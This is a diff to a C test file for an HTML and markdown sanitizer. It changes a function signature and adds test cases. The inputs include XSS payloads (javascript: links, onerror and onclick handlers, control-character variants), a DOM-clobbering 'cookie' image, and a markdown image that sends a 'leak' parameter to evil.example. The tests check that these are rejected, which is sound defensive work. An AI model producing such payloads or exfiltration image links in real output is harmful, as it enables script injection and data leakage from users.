@@ -104,6 +104,7 @@ static const char *const hostile_html[] = {
     "<a href=\"x\" href=\"javascript:alert(1)\">x</a>",
 
     "<div \"onclick=alert(1)>x</div>",
+    "<img name=\"cookie\" src=\"data:image/png;base64,AA==\">",
     "<img src=x on\x01error=alert(1)>",
     "<img\x01src=x onerror=alert(1)>",
     "<a href=\"java\x01script:alert(1)\">x</a>",
@@ -202,7 +203,7 @@ static void test_markdown_and_latex(void)
         NULL,
     };
     for (size_t i = 0; hostile[i]; i++) {
-        bool safe = active_markdown_safe(hostile[i], strlen(hostile[i]));
+        bool safe = active_markdown_safe(hostile[i], strlen(hostile[i]), false);
         if (safe)
             fprintf(stderr, "taken as safe: %s\n", hostile[i]);
         CHECK(!safe);
@@ -210,7 +211,10 @@ static void test_markdown_and_latex(void)
     static const char fine[] =
         "# Results\n\n**bold**, *it*, `code`, [docs](https://x.org)"
         "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2 + \\alpha$";
-    CHECK(active_markdown_safe(fine, sizeof fine - 1));
+    CHECK(active_markdown_safe(fine, sizeof fine - 1, false));
+    static const char picture[] = "![chart](https://evil.example/?leak=1)";
+    CHECK(!active_markdown_safe(picture, sizeof picture - 1, false));
+    CHECK(active_markdown_safe(picture, sizeof picture - 1, true));
     CHECK(active_latex_safe("$\\frac{a}{b}$", 13));
     CHECK(!active_latex_safe("\\HREF{x}{y}", 11));
 }
